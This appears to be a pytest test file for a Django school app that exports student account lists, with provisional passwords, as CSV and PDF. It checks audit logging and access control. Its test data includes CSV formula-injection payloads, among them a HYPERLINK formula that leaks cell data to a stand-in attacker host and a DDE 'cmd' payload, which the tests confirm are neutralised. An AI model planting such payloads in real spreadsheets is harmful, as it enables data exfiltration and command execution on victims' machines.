"""« Lister les comptes »: CSV (French Excel, formula injection neutralised) and PDF (one table per
class), from the selection or the whole search, audited without passwords."""

import csv
import io
import json

import pytest
from django.urls import reverse
from pypdf import PdfReader

from accounts.exports import accounts_csv, listed, neutralise
from accounts.models import Account
from accounts.passwords import provisional_password
from educonnect.models import AuditAction, AuditEvent
from tests.factories import AccountFactory, DivisionFactory, StudentFactory

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+33 6 12",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTAB",
    "\rRETOUR",
    "=cmd|' /C calc'!A0",
]


def account_for(establishment, *, last_name="DUBOIS", first_name="Paul", division="3EME1", **traits):
    student = StudentFactory(
        establishment=establishment,
        last_name=last_name,
        first_name=first_name,
        division=DivisionFactory(establishment=establishment, code=division),
    )
    return AccountFactory(student=student, **(traits or {"informed": True}))


def list_url(establishment):
    return reverse("troubleshooting:list_accounts", args=[establishment.uai])


def parse_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: French Excel reads the accents
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


def pdf_text(content: bytes) -> list[str]:
    return [page.extract_text() for page in PdfReader(io.BytesIO(content)).pages]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralise_prefixes_formula_cells(payload):
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Paul", "3EME1", "paul.dubois", "", "A=B", "12"])
def test_neutralise_leaves_ordinary_cells(value):
    assert neutralise(value) == value


def test_csv_neutralises_every_cell(establishment):
    accounts = [
        account_for(establishment, last_name=payload, first_name=payload, division=f"D{i}")
        for i, payload in enumerate(PAYLOADS)
    ]
    division = DivisionFactory(establishment=establishment, code="=1+1")
    accounts.append(account_for(establishment, last_name="SAIN", division=division.code))
    rows = parse_csv(accounts_csv(listed(Account.objects.select_related("student__division", "student__mef"))))
    assert rows[0] == [
        "Élève",
        "Nom",
        "Prénom",
        "Classe",
        "MEF",
        "Identifiant",
        "Mot de passe provisoire",
        "État du compte",
    ]
    assert len(rows) == len(accounts) + 1
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    names = {row[1] for row in rows[1:]}
    assert {"'" + p for p in PAYLOADS} <= names
    assert "'=1+1" in {row[3] for row in rows[1:]}


def test_csv_has_semicolons_header_and_passwords(establishment):
    account = account_for(establishment, last_name="DUBOIS", first_name="Éloïse", identifier="eloise.dubois")
    activated = account_for(establishment, last_name="MARTIN", activated=True)
    content = accounts_csv(listed(Account.objects.select_related("student__division", "student__mef")))
    assert content.decode("utf-8-sig").splitlines()[0].count(";") == 7
    rows = parse_csv(content)
    by_id = {row[5]: row for row in rows[1:]}
    assert by_id["eloise.dubois"][:4] == ["DUBOIS Éloïse", "DUBOIS", "Éloïse", "3EME1"]
    assert by_id["eloise.dubois"][6] == provisional_password(account)
    assert by_id[activated.identifier][6] == "Mot de passe personnel"


def test_pdf_has_one_table_per_class_with_the_passwords(client, establishment, head):
    a = account_for(establishment, last_name="ALPHA", division="3EME1")
    b = account_for(establishment, last_name="BRAVO", division="4EME2")
    client.force_login(head)
    response = client.post(list_url(establishment), {"selection": [a.pk, b.pk], "format": "pdf"})
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith('attachment; filename="Educonnect-ListeEleves-0380111P-')
    assert response["Cache-Control"] == "no-store, no-cache, must-revalidate, private"
    pages = pdf_text(response.content)
    assert len(pages) == 2
    assert "Classe 3EME1" in pages[0] and provisional_password(a) in pages[0] and "ALPHA Paul" in pages[0]
    assert "Classe 4EME2" in pages[1] and provisional_password(b) in pages[1]
    for header in ["Élève", "Classe", "Identifiant", "Mot de passe provisoire"]:
        assert header in pages[0]


def test_list_without_format_asks_for_it(client, establishment, delegate_depannage):
    account = account_for(establishment)
    client.force_login(delegate_depannage)
    response = client.post(list_url(establishment), {"selection": [account.pk]})
    assert response.status_code == 200
    assert "Pour éditer la liste des 1 compte sélectionné, choisissez ci-dessous le format souhaité" in response.text
    assert "Liste des élèves (format pdf)" in response.text and "Liste des élèves (format csv)" in response.text
    assert f'name="selection_ids" value="{account.pk}"' in response.text
    assert not AuditEvent.objects.filter(action=AuditAction.ACCOUNTS_LISTED).exists()


def test_list_of_the_whole_search_is_audited_without_passwords(client, establishment, delegate_depannage):
    ours = [account_for(establishment, last_name="DUBOIS", division=d) for d in ("3EME1", "3EME2")]
    account_for(establishment, last_name="MARTIN")
    client.force_login(delegate_depannage)
    response = client.post(list_url(establishment), {"select_all": "1", "q": "dubois", "format": "csv"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = parse_csv(response.content)
    assert sorted(row[5] for row in rows[1:]) == sorted(a.identifier for a in ours)
    event = AuditEvent.objects.get(action=AuditAction.ACCOUNTS_LISTED)
    assert event.actor == delegate_depannage
    assert event.details["format"] == "csv" and event.details["count"] == 2
    journal = json.dumps(list(AuditEvent.objects.values()), default=str)
    assert not any(provisional_password(a) in journal for a in ours)


def test_list_with_a_foreign_id_is_404(client, establishment, other_establishment, head):
    ours = account_for(establishment)
    theirs = account_for(other_establishment)
    client.force_login(head)
    response = client.post(list_url(establishment), {"selection": [ours.pk, theirs.pk], "format": "csv"})
    assert response.status_code == 404
    assert not AuditEvent.objects.filter(action=AuditAction.ACCOUNTS_LISTED).exists()


@pytest.mark.parametrize("persona", ["staff", "stranger_from_other_establishment"])
def test_list_by_staff_without_delegation_or_stranger_is_404(client, request, establishment, persona):
    account = account_for(establishment)
    client.force_login(request.getfixturevalue(persona))
    assert client.post(list_url(establishment), {"selection": [account.pk], "format": "csv"}).status_code == 404


def test_list_is_post_only(client, establishment, head):
    client.force_login(head)
    assert client.get(list_url(establishment), {"select_all": "1", "format": "csv"}).status_code == 405


def test_result_page_list_carries_the_ids_in_one_field(client, establishment, head):
    """After a bulk reset, the list of the reset accounts is one POST field (a thousand separate
    fields would pass DATA_UPLOAD_MAX_NUMBER_FIELDS)."""
    accounts = [account_for(establishment, last_name=n) for n in ("ALPHA", "BRAVO")]
    client.force_login(head)
    url = reverse("troubleshooting:bulk_reset", args=[establishment.uai])
    page = client.post(url, {"selection": [a.pk for a in accounts], "confirm": "1"}).text
    packed = ",".join(str(a.pk) for a in sorted(accounts, key=lambda a: a.student.last_name))
    assert f'name="selection_ids" value="{packed}"' in page
    response = client.post(list_url(establishment), {"selection_ids": packed, "format": "csv"})
    rows = parse_csv(response.content)
    assert sorted(r[5] for r in rows[1:]) == sorted(a.identifier for a in accounts)
    assert all(provisional_password(Account.objects.get(pk=a.pk)) in response.content.decode() for a in accounts)


def test_packed_selection_with_a_foreign_id_is_404(client, establishment, other_establishment, head):
    ours, theirs = account_for(establishment), account_for(other_establishment)
    client.force_login(head)
    response = client.post(list_url(establishment), {"selection_ids": f"{ours.pk},{theirs.pk}", "format": "csv"})
    assert response.status_code == 404
